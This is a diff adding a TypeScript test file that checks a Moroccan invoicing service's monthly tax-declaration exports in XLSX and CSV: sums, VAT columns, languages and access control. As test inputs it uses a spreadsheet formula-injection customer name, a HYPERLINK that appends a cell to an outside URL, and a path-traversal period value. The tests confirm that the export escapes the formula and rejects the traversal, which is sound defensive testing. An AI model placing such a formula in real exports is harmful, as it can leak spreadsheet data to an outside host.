@@ -1,0 +1,173 @@
+import { expect } from 'vitest';
+import { moroccanDate } from '../../src/domain/morocco/time.ts';
+import { BYTE_ORDER_MARK } from '../../src/text/csv.ts';
+import { DECLARATION_LABELS } from '../../src/text/declaration-labels.ts';
+import { Client, invoiceBody } from '../support/client.ts';
+import { signedIn } from '../support/person.ts';
+import { withSharedService } from '../support/service.ts';
+import { readSheet } from '../support/spreadsheet.ts';
+
+const TODAY = moroccanDate(new Date());
+const MONTH = TODAY.slice(0, 7);
+const XLSX = `/exports/${MONTH}/declaration.xlsx`;
+const CSV = `/exports/${MONTH}/declaration.csv`;
+const ICE = '001234567000089';
+const FORMULA = '=HYPERLINK("https://example.com"&A1)';
+
+const PERIOD = `query ($period: String!) { period(period: $period) { period {
+  invoices { accepted { ...All } } creditNotes { accepted { ...All } } } } }
+  fragment All on PeriodSums { count net tax total withheld rates { rate net tax } }`;
+const ALL = `{ fiscalDocuments(first: 100, status: accepted) { nodes {
+  id number amount dgiId customer { name } totals { taxTotals { rate base tax } } } } }`;
+const CREATE = `mutation ($input: CreateInvoiceInput!) { createInvoice(input: $input) {
+  ... on CreateInvoicePayload { invoice { id } } ... on Error { message } } }`;
+const CREDIT = `mutation ($id: ID!) { creditInvoice(invoiceId: $id, input: { reason: return }) {
+  ... on CreditInvoicePayload { creditNote { id } } ... on Error { message } } }`;
+
+/** Issues documents of all kinds, three of which are accepted, and waits for the sums of the month. */
+async function issueDocuments(client: Client): Promise<void> {
+  const lines = [
+    { description: 'A', quantity: 3, unitPrice: 3333, taxRate: 20 },
+    { description: 'B', quantity: 1, unitPrice: 10_000, taxRate: 10 },
+    { description: 'C', quantity: 1, unitPrice: 700, taxRate: 0 },
+  ];
+  const input = { amount: 23_699, currency: 'MAD', lines, customer: { kind: 'company', ice: ICE, name: FORMULA } };
+  const terms = { paymentMeans: 'cheque' };
+  const mixed = (await client.graphql(CREATE, { input: { ...input, terms } })).body.data.createInvoice.invoice.id;
+  const withheld = { ...input, withholding: { percent: 75 }, customer: { kind: 'person', name: ' <Amina> & "fils"' } };
+  const second = (await client.graphql(CREATE, { input: withheld })).body.data.createInvoice.invoice.id;
+  const rejected = (await client.post('/v1/invoices', invoiceBody({ customer: { ice: '999000000000102', name: 'R' } })))
+    .body.id;
+  for (const id of [mixed, second, rejected]) await client.settled(id);
+  expect((await client.graphql(CREDIT, { id: mixed })).body.data.creditInvoice.creditNote).not.toBeNull();
+  const read = async () => (await client.graphql(PERIOD, { period: MONTH })).body.data.period.period;
+  const expected = { creditNotes: { accepted: { count: 1 } }, invoices: { accepted: { count: 2 } } };
+  await expect.poll(read, { timeout: 20_000 }).toMatchObject(expected);
+}
+
+/** Sums as the API states each document, in centimes: credit notes are negative. */
+async function sumOfDocuments(client: Client) {
+  const { nodes } = (await client.graphql(ALL)).body.data.fiscalDocuments;
+  const sums = new Map<string, number>();
+  const add = (name: string, centimes: number) => sums.set(name, (sums.get(name) ?? 0) + centimes);
+  for (const { id, amount, totals } of nodes) {
+    const sign = id.startsWith('crn_') ? -1 : 1;
+    add('amount', sign * amount);
+    for (const { rate, base, tax } of totals.taxTotals) {
+      for (const name of ['net', `net ${rate}`]) add(name, sign * base);
+      for (const name of ['tax', `tax ${rate}`]) add(name, sign * tax);
+    }
+  }
+  return sums;
+}
+
+withSharedService('a declaration has what was accepted, and the sums of the period', async ({ service }) => {
+  const { secretKey } = await service.tenant();
+  const client = new Client(service.url, secretKey);
+  await issueDocuments(client);
+  const download = (path: string) => fetch(service.url + path, { headers: { Authorization: `Bearer ${secretKey}` } });
+
+  const response = await download(XLSX);
+  expect(response.headers.get('content-disposition')).toBe(`attachment; filename="declaration-${MONTH}.xlsx"`);
+  expect(response.headers.get('cache-control')).toBe('no-store');
+  const { name, rows } = await readSheet(await response.arrayBuffer());
+  expect(name).toBe(MONTH);
+  const [headings = [], ...others] = rows;
+  const sums = others.pop() ?? [];
+  const at = (row: readonly unknown[], heading: string) => row[headings.indexOf(heading)];
+  const column = (heading: string) => others.map((row) => at(row, heading));
+  const year = MONTH.slice(0, 4);
+  // The rejected invoice has the number 3.
+  expect(column('Numéro')).toEqual([`${year}-000001`, `${year}-000002`, `AV-${year}-000001`]);
+  expect(column('Document')).toEqual(['Facture', 'Facture', 'Avoir']);
+  expect(column('Client')).toEqual([FORMULA, '<Amina> & "fils"', FORMULA].map((text) => expect.stringContaining(text)));
+  expect(column('Type de client')[1]).toBe('Particulier au Maroc');
+  expect(column('ICE')).toEqual([ICE, null, ICE]);
+  expect(column('Date d’émission')).toEqual(others.map(() => new Date(`${TODAY}T00:00:00Z`)));
+  expect(column('Moyen de paiement')[0]).toBe('Chèque');
+  expect(column('HT à 7\u00a0%')).toEqual([null, null, null]);
+  const { nodes } = (await client.graphql(ALL)).body.data.fiscalDocuments;
+  const idOf = (number: unknown) => nodes.find((node: { number: string }) => node.number === number)?.dgiId;
+  expect(column('Identifiant DGI')).toEqual(column('Numéro').map(idOf));
+
+  const expected = await sumOfDocuments(client);
+  const { invoices, creditNotes } = (await client.graphql(PERIOD, { period: MONTH })).body.data.period.period;
+  const [invoiced, credited] = [invoices.accepted, creditNotes.accepted];
+  const inCentimes = (cell: unknown) => Math.round(Number(cell ?? 0) * 100);
+  const summed = (heading: string) => column(heading).reduce<number>((sum, cell) => sum + inCentimes(cell), 0);
+  const compare = (heading: string, sum: string, ofPeriod: number) => {
+    const known = expected.get(sum) ?? 0;
+    expect([inCentimes(at(sums, heading)), summed(heading), ofPeriod], heading).toEqual([known, known, known]);
+  };
+  compare('Total HT', 'net', invoiced.net - credited.net);
+  compare('TVA', 'tax', invoiced.tax - credited.tax);
+  compare('Total TTC arrondi', 'amount', invoiced.total - credited.total);
+  for (const [i, { rate, net, tax }] of invoiced.rates.entries()) {
+    const heading = rate === 0 ? 'HT exonéré ou à 0\u00a0%' : `HT à ${rate}\u00a0%`;
+    compare(heading, `net ${rate}`, net - credited.rates[i].net);
+    if (rate > 0) compare(`TVA à ${rate}\u00a0%`, `tax ${rate}`, tax - credited.rates[i].tax);
+  }
+  expect(inCentimes(at(sums, 'TVA retenue à la source'))).toBe(invoiced.withheld - credited.withheld);
+  expect(Number(invoiced.withheld)).toBeGreaterThan(0);
+
+  const csv = (await (await download(`${CSV}?lang=fr`)).arrayBuffer()) as ArrayBuffer;
+  const [head, first, , note, ...end] = new TextDecoder('utf-8', { ignoreBOM: true }).decode(csv).split('\r\n');
+  expect(head).toBe(BYTE_ORDER_MARK + headings.join(';'));
+  // No formula, and an ICE that keeps its zeros.
+  expect(first).toMatch(
+    new RegExp(`^${year}-000001;Facture;${TODAY};"'=HYPERLINK\\(""https[^"]*""&A1\\)";Entreprise au Maroc;'${ICE};;;`),
+  );
+  expect(first).toContain(';99,99;20,00;;;100,00;10,00;;;7,00;206,99;30,00;236,99;236,99;0,00;Chèque;');
+  expect(note).toContain(';-99,99;-20,00;;;-100,00;-10,00;;;-7,00;-206,99;-30,00;-236,99;-236,99;0,00;');
+  expect(end).toEqual(['']);
+});
+
+withSharedService('a declaration is in the language of the request, also without documents', async ({ service }) => {
+  const { secretKey } = await service.tenant();
+  const read = async (path: string, headers = {}) => {
+    const response = await fetch(service.url + path, { headers: { Authorization: `Bearer ${secretKey}`, ...headers } });
+    expect(response.status).toBe(200);
+    return { text: await response.clone().text(), bytes: await response.arrayBuffer(), response };
+  };
+  for (const language of ['fr', 'en', 'ar'] as const) {
+    const { response, bytes } = await read('/exports/2025/declaration.xlsx', { 'Accept-Language': language });
+    expect(response.headers.get('content-language')).toBe(language);
+    const { rows } = await readSheet(bytes);
+    expect(rows.map(([first]) => first)).toEqual([
+      DECLARATION_LABELS[language].number,
+      DECLARATION_LABELS[language].sums,
+    ]);
+  }
+  const english = await read('/exports/2025-Q3/declaration.csv?lang=en', { 'Accept-Language': 'ar' });
+  expect(english.text).toMatch(/^Number,Document,Date of issue,[^\r]*\r\n$/);
+});
+
+withSharedService('a period is exported for those who may read its invoices', async ({ service }) => {
+  const { id, secretKey, publishableKey } = await service.tenant();
+  const other = await service.tenant();
+  const client = new Client(service.url, secretKey);
+  const { client_secret: clientSecret } = (await client.post('/v1/invoices', invoiceBody())).body;
+  const { browser } = await signedIn(service, { memberships: [{ tenantId: id, role: 'viewer' }] });
+  const status = async (credential: string | Record<string, string> | null, path = CSV) => {
+    const { body, ...answer } = await new Client(service.url, credential, false).get(path);
+    return [answer.status, body.error?.code ?? null, body.error?.param ?? null];
+  };
+  expect(await status(secretKey)).toEqual([200, null, null]);
+  expect(await status(browser.credential(id))).toEqual([200, null, null]);
+  expect(await status(null)).toEqual([401, 'invalid_api_key', null]);
+  expect(await status('sk_test_unknown')).toEqual([401, 'invalid_api_key', null]);
+  expect(await status(publishableKey)).toEqual([403, 'insufficient_scope', null]);
+  expect(await status(clientSecret)).toEqual([403, 'insufficient_scope', null]);
+  expect(await status(browser.credential(other.id))).toEqual([404, 'resource_not_found', 'Fatoura-Tenant']);
+  const elsewhere = { ...browser.credential(id), Origin: 'https://example.com', 'Sec-Fetch-Site': 'cross-site' };
+  expect(await status(elsewhere)).toEqual([403, 'insufficient_scope', null]);
+
+  expect(await status(secretKey, `/exports/${MONTH}/declaration.exe`)).toEqual([404, 'resource_not_found', null]);
+  for (const name of ['2026-13', '1999-01', '2026-Q5', '..%2f2026', `${MONTH}x`, 'x'.repeat(5000)])
+    expect(await status(secretKey, `/exports/${name}/declaration.csv`)).toEqual([400, 'invalid_request', 'period']);
+  expect(await status(secretKey, `${CSV}?lang=de`)).toEqual([400, 'invalid_request', 'lang']);
+  expect(await status(secretKey, `${CSV}?lang=fr&lang=en`)).toEqual([400, 'invalid_request', 'lang']);
+  expect(await status(secretKey, `${CSV}?after=1`)).toEqual([400, 'invalid_request', 'after']);
+  expect((await client.request('HEAD', CSV)).status).toBe(200);
+  expect((await client.request('POST', CSV)).status).toBe(405);
+});
